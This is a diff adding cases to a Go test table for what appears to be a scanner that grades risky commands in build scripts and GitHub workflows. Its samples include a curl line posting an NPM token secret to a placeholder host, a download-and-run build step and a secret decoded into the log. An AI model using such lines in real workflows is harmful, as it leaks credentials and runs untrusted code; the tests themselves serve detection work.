@@ -143,6 +143,9 @@ func TestSeverityByContext(t *testing.T) {
 		{"build.rs runs the download", "build.rs", buildRsAfterDownload("Command::new(\"./third_party/tool.bin\").status().unwrap();"), 15, "high download-and-run"},
 		// A message that tells the user what to add to their profile.
 		{"profile hint in a Python string", "install.py", "HINT = \"\"\"\nAdd it to your profile:\n\necho 'export PATH=\"$HOME/.t/bin:$PATH\"' | Out-File -Append $PROFILE\n\"\"\"", 4, ""},
+		// A build hook's secret URL posted to is its use; a secret in the body is a send.
+		{"post to a secret build hook", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -X POST -d {} \"${{ secrets.NETLIFY_DOCS_BUILD_HOOK }}?trigger_branch=main\"", 6, "medium download"},
+		{"secret in a post's body", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -X POST -d \"${{ secrets.NPM_TOKEN }}\" https://x.invalid/c", 6, "high secret-send"},
 		// A certificate decoded from a secret into a file is not printed.
 		{"certificate decoded into a file", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: macos-latest\n    env:\n      CERT: ${{ secrets.CERT_BASE64 }}\n    steps:\n      - run: echo -n \"$CERT\" | base64 --decode --output cert.p12", 8, "medium decode"},
 		{"certificate decoded to the log", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: macos-latest\n    env:\n      CERT: ${{ secrets.CERT_BASE64 }}\n    steps:\n      - run: echo -n \"$CERT\" | base64 --decode", 8, "high secret-unmasked"},
